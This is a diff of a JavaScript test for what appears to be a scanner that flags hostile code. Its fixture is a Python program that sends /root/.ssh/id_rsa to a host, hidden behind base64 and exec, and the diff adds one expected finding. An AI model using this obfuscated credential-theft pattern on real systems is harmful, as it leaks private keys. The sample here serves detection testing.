@@ -325,6 +325,6 @@ describe('code that is run is found', () => {
   it('also where a decoded program is what sends', async () => {
     const inner = Buffer.from(`import requests\nrequests.post("${host}", data=open("/root/.ssh/id_rsa").read())`);
     const found = await judged(py('import base64', `exec(base64.b64decode("${inner.toString('base64')}"))`));
-    expect(found).toEqual(['sends-credentials a.py:2', 'runs-decoded a.py:2']);
+    expect(found).toEqual(['sends-credentials a.py:2', 'runs-decoded a.py:2', 'conceals-address a.py:2']);
   });
 });
